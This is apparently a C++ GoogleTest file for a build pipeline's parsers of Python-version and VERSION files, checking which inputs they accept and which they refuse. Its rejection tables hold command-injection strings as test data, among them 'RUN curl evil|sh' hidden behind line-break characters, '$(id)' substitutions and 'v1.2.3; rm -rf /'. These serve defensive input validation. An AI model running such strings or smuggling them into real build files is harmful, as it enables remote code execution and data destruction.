// VERSION and PYTHON_VERSIONS: what is accepted, and where a refusal points.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "base/strings.h"
#include "pipeline/plan.h"

namespace crategate::pipeline {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;

// A15: 3.10 stays 3.10 beside 3.1
TEST(AxisFile, KeepsTheOrderAndForgivesLineEnds) {
  const std::string texts[] = {"3.7\n3.10\n3.1\n", "3.7\r\n3.10\r\n3.1\r\n", "3.7\n\n3.10\n  \n3.1"};
  for (const auto& text : texts) {
    const auto values = parse_axis_file(text, "PYTHON_VERSIONS", "python");
    ASSERT_TRUE(values) << quoted(text);
    EXPECT_THAT(*values, ElementsAre("3.7", "3.10", "3.1"));
  }
}

struct Bad {
  std::string what, text;
  int line;
};

void PrintTo(const Bad& row, std::ostream* out) { *out << row.what; }

class BadPythonVersions : public ::testing::TestWithParam<Bad> {};

TEST_P(BadPythonVersions, AreRefusedByLine) {
  const auto& row = GetParam();
  const auto values = parse_axis_file(row.text, "PYTHON_VERSIONS", "python");
  ASSERT_FALSE(values);
  EXPECT_EQ(values.error().code, ErrorCode::bad_input);
  EXPECT_THAT(describe(values.error()), HasSubstr("PYTHON_VERSIONS"));
  EXPECT_THAT(describe(values.error()), HasSubstr("expected"));
  EXPECT_FALSE(values.error().hint.empty());
  ASSERT_EQ(values.error().location.has_value(), row.line > 0);
  if (row.line > 0) {
    EXPECT_EQ(values.error().location->line, row.line);
  }
}

// A14: one value a line and nothing beside it. A15: no value twice, and none for another.
INSTANTIATE_TEST_SUITE_P(
    Table, BadPythonVersions,
    ::testing::Values(Bad{"empty", "", 0}, Bad{"blank lines only", "\n \n", 0}, Bad{"duplicate", "3.9\n3.10\n3.9\n", 3},
                      Bad{"duplicate with a space", "3.10\n3.10 \n", 2}, Bad{"patch level", "3.9\n3.10.1\n", 2},
                      Bad{"leading zero", "3.09\n", 1}, Bad{"leading zero of the major", "03.9\n", 1},
                      Bad{"comment", "# versions\n3.9\n", 1}, Bad{"comment behind", "3.9 # old\n", 1},
                      Bad{"byte-order mark",
                          "\xEF\xBB\xBF"
                          "3.9\n",
                          1},
                      Bad{"3.x", "3.x\n", 1}, Bad{"major only", "3\n", 1}, Bad{"no minor", "3.\n", 1},
                      Bad{"three digits", "3.100\n", 1}, Bad{"two on a line", "3.9 3.10\n", 1},
                      Bad{"instruction behind a CR", "3.10\rRUN curl evil|sh\n", 1},
                      Bad{"instruction behind a vertical tab", "3.10\vRUN id\n", 1},
                      Bad{"instruction behind a form feed", "3.10\fRUN id\n", 1},
                      Bad{"instruction behind NEL", "3.10\xC2\x85RUN id\n", 1},
                      Bad{"instruction behind a line separator", "3.10\xE2\x80\xA8RUN id\n", 1},
                      Bad{"line continuation", "3.10\\\n", 1}, Bad{"command", "3.10;id\n", 1},
                      Bad{"substitution", "3.1$(id)\n", 1}, Bad{"variable", "3.${X}\n", 1},
                      Bad{"template", "{{base}}\n", 1}, Bad{"digest", "3.10@sha256:0\n", 1}, Bad{"float", "3.1e1\n", 1},
                      Bad{"plus", "+3.1\n", 1}, Bad{"3.10 with a blank beside 3.1", "3.10\n3.1\n3.10 \n", 3},
                      Bad{"build stage", "3.10 AS x\n", 1}, Bad{"full-width digit", "３.9\n", 1},
                      Bad{"no-break space", "3.9\xC2\xA0\n", 1}, Bad{"option", "--platform\n", 1},
                      Bad{"negative", "-3.9\n", 1}, Bad{"NUL", std::string("3.9\0\n", 5), 1}));

TEST(AxisFile, TakesPlainWordsForOtherAxes) {
  EXPECT_THAT(*parse_axis_file("cpu\ncuda-12.4_x\n3.10.1\n", "RUNTIMES", "runtime"),
              ElementsAre("cpu", "cuda-12.4_x", "3.10.1"));
  for (const std::string bad : {"-x", ".x", "a b", "a/b", "a:b", "$(id)", "é"}) {
    EXPECT_FALSE(parse_axis_file(bad, "RUNTIMES", "runtime")) << bad;
  }
  EXPECT_FALSE(parse_axis_file(std::string(65, 'a'), "RUNTIMES", "runtime"));
}

TEST(VersionFile, IsOneLineWithWhiteSpaceAroundIt) {
  for (const std::string text : {"v1.2.3", "v1.2.3\n", " v1.2.3 \r\n", "\nv1.2.3\n\n"}) {
    const auto version = parse_version_file(text, "VERSION");
    ASSERT_TRUE(version) << quoted(text);
    EXPECT_EQ(version->text, "v1.2.3");
  }
}

class BadVersions : public ::testing::TestWithParam<Bad> {};

TEST_P(BadVersions, AreRefusedByLine) {
  const auto& row = GetParam();
  const auto version = parse_version_file(row.text, "VERSION");
  ASSERT_FALSE(version);
  EXPECT_EQ(version.error().code, ErrorCode::bad_input);
  EXPECT_THAT(describe(version.error()), HasSubstr("VERSION"));
  ASSERT_EQ(version.error().location.has_value(), row.line > 0);
  if (row.line > 0) {
    EXPECT_EQ(version.error().location->line, row.line);
  }
}

// A12
INSTANTIATE_TEST_SUITE_P(Table, BadVersions,
                         ::testing::Values(Bad{"empty", "", 0}, Bad{"blank", " \r\n", 0}, Bad{"1.2", "1.2\n", 1},
                                           Bad{"shell", "v1.2.3; rm -rf /", 1}, Bad{"substitution", "v1.0.0$(id)", 1},
                                           Bad{"second line", "v1.2.3\nv1.2.4\n", 2},
                                           Bad{"second line after blank ones", "\n\nv1.2.3\nx\n", 4},
                                           Bad{"workflow command", "v1.2.3\n::error::x\n", 2},
                                           Bad{"CR inside", "v1.2.3\rv1.2.4", 2},
                                           Bad{"byte-order mark", "\xEF\xBB\xBFv1.2.3", 1},
                                           Bad{"line separator", "v1.2.3\xE2\x80\xA8", 1},
                                           Bad{"full-width digit", "v１.2.3", 1},
                                           Bad{"build metadata", "v1.0.0+meta", 1}, Bad{"latest", "latest", 1},
                                           Bad{"option", "--privileged", 1}, Bad{"long", std::string(257, '1'), 0}));

}  // namespace
}  // namespace crategate::pipeline
